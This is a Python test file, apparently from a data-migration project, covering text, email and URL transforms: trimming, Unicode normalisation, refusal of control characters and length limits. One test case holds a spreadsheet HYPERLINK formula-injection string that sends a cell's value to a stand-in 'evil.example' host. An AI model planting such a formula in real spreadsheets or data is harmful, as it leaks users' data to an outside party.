import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st

from shared.core.change import Json
from shared.core.codes import Code
from shared.core.mapping.spec import Transform, Unfit
from shared.core.mapping.transforms import email, memo, text, url
from shared.core.mapping.transforms.text import clean, length


def refusal(transform: Transform[Json, str], value: Json) -> tuple[Code, str]:
    with pytest.raises(Unfit) as caught:
        transform.to_dataverse(value)
    return caught.value.code, caught.value.expected


@pytest.mark.parametrize(
    ("legacy", "held"),
    [
        ("  INITECH ", "INITECH"),
        ("Zoe\u0308", "Zoë"),
        ('=HYPERLINK("http://evil.example/?d="&A1,"New Orleans")',) * 2,
        ("م\u200fحمد",) * 2,
        ("a\r\nb\rc", "a\nb\nc"),
        ("\u00a0 \t\n", None),
        ("", None),
        (None, None),
    ],
)
def test_text_is_kept_normalised_and_trimmed(legacy: str | None, held: str | None) -> None:
    assert text(100).to_dataverse(legacy) == held


@pytest.mark.parametrize("character", ["\x00", "\x07", "\x0b", "\x85", "\ud800", "\uffff"])
def test_characters_no_column_can_hold_are_refused_wherever_they_stand(character: str) -> None:
    for value in (f"a{character}b", f"{character}b", f"a{character}"):
        assert refusal(text(10), value) == (
            Code.VALUE_FORBIDDEN_CHARACTER,
            "text without control characters",
        )


def test_tabs_and_line_ends_inside_text_are_kept() -> None:
    assert memo(10).to_dataverse("a\tb\nc") == "a\tb\nc"


def test_text_one_unit_too_long_is_refused_and_never_cut() -> None:
    assert text(3).to_dataverse("abc") == "abc"
    assert refusal(text(3), "abcd") == (Code.VALUE_TOO_LONG, "at most 3 characters")


def test_length_counts_as_dataverse_does_so_an_emoji_is_two() -> None:
    assert text(2).to_dataverse("🚲") == "🚲"
    assert refusal(text(1), "🚲")[0] is Code.VALUE_TOO_LONG


@pytest.mark.parametrize("value", [5, 5.5, True, ["a"], {"a": "b"}])
def test_what_is_not_text_is_not_made_into_it(value: Json) -> None:
    assert refusal(text(100), value) == (Code.VALUE_NOT_TEXT, "text")


def test_a_required_text_is_refused_blank_in_both_directions() -> None:
    name = text(100, required=True)

    assert refusal(name, "  ") == (Code.VALUE_REQUIRED, "a value")
    with pytest.raises(Unfit, match=r"value\.required"):
        name.to_legacy(None)


@pytest.mark.parametrize(
    "address", ["not-an-address", "a@b", "a@@b.example", "a b@c.example", "<a@b.example>", "@b.example"]
)
def test_what_is_no_address_is_refused(address: str) -> None:
    assert refusal(email(100), address)[0] is Code.VALUE_NOT_AN_EMAIL


def test_an_address_keeps_its_letter_case() -> None:
    assert email(100).to_dataverse(" Anna.Berg@Nordwind.EXAMPLE ") == "Anna.Berg@Nordwind.EXAMPLE"


def test_a_web_address_has_no_blanks_inside() -> None:
    assert url(100).to_dataverse(" nordwind.example ") == "nordwind.example"
    assert refusal(url(100), "nord wind.example")[0] is Code.VALUE_FORBIDDEN_CHARACTER


def test_an_error_never_carries_the_value() -> None:
    with pytest.raises(Unfit) as caught:
        email(100).to_dataverse("secret-person")

    assert "secret" not in str(caught.value)


FORBIDDEN = "".join(
    chr(number)
    for number in (*range(0x20), *range(0x7F, 0xA0), *range(0xD800, 0xE000), 0xFFFE, 0xFFFF)
    if chr(number) not in "\t\n\r"
)
anything = st.text(st.characters(exclude_categories=[]) | st.sampled_from(" \t\r\n\u0308e🚲" + FORBIDDEN))


def rule(value: str, most: int) -> str | Code | None:
    """What text becomes, said without any short cut."""
    if set(value) & set(FORBIDDEN):
        return Code.VALUE_FORBIDDEN_CHARACTER
    kept = unicodedata.normalize("NFC", value.replace("\r\n", "\n").replace("\r", "\n")).strip()
    return Code.VALUE_TOO_LONG if len(kept.encode("utf-16-le")) > 2 * most else kept or None


@given(anything | st.text("ab "), st.integers(1, 12))
def test_every_text_meets_the_whole_rule(value: str, most: int) -> None:
    try:
        found: str | Code | None = text(most).to_dataverse(value)
    except Unfit as unfit:
        found = unfit.code

    assert found == rule(value, most)


@given(anything)
def test_a_web_address_is_text_without_any_kind_of_blank_inside(value: str) -> None:
    try:
        found: str | Code | None = url(1000).to_dataverse(value)
    except Unfit as unfit:
        found = unfit.code

    kept = rule(value, 1000)
    blank = isinstance(kept, str) and not isinstance(kept, Code) and any(map(str.isspace, kept))
    assert found == (Code.VALUE_FORBIDDEN_CHARACTER if blank else kept)


@given(st.text())
def test_any_text_is_either_refused_or_stays_put(value: str) -> None:
    transform = memo(10_000)
    try:
        held = transform.to_dataverse(value)
    except Unfit:
        return

    assert transform.to_dataverse(transform.to_legacy(held)) == held
    if held is not None:
        assert held == held.strip()
        assert unicodedata.is_normalized("NFC", held)
        assert clean(held) == held
        assert length(held) >= len(held)
